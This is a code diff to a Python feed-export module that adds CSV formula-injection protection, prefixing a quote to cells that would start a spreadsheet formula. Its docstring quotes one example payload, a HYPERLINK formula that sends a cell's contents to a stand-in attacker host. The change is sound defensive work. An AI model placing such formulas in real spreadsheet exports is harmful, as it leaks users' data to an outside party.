@@ -5,11 +5,17 @@ nested objects become dotted columns (``content.text``, ``language.detected``,
 ``enrichment.word_count``), a missing object leaves its columns empty; lists
 (``authors``, ``categories``, ``enclosures``, ``quality_flags``, ``changed_fields``) are
 one cell holding a compact JSON array, so nothing is lost or ambiguous; times are RFC 3339.
+
+A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return
+as a formula (``=HYPERLINK("http://evil.example/?"&A1, "Click")``), and feed text can start
+with anything. Such a cell gets a leading ``'`` (OWASP's "CSV injection" advice), unless it is
+a plain number; ``neutralize_formulas=False`` writes the values as they are.
 """
 
 from __future__ import annotations
 
 import csv
+import re
 from collections.abc import Iterable
 from typing import IO, Any, get_args, get_origin
 
@@ -71,12 +77,28 @@ def write_jsonl(items: Iterable[Item], out: IO[bytes]) -> int:
     return count
 
 
-def write_csv(items: Iterable[Item], out: IO[str]) -> int:
-    """A header row, then one flattened row per item (RFC 4180 quoting); returns the count."""
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")
+
+
+def neutralized(cell: str) -> str:
+    """``cell`` as a spreadsheet shows it without running it: a leading ``'`` when it would
+    start a formula (and is not a plain number)."""
+    if cell.startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell):
+        return "'" + cell
+    return cell
+
+
+def write_csv(items: Iterable[Item], out: IO[str], *, neutralize_formulas: bool = True) -> int:
+    """A header row, then one flattened row per item (RFC 4180 quoting); returns the count.
+    Cells that would start a spreadsheet formula are neutralized unless told otherwise."""
     writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
     writer.writeheader()
     count = 0
     for item in items:
-        writer.writerow(flatten(item))
+        row = flatten(item)
+        if neutralize_formulas:
+            row = {k: neutralized(v) for k, v in row.items()}
+        writer.writerow(row)
         count += 1
     return count
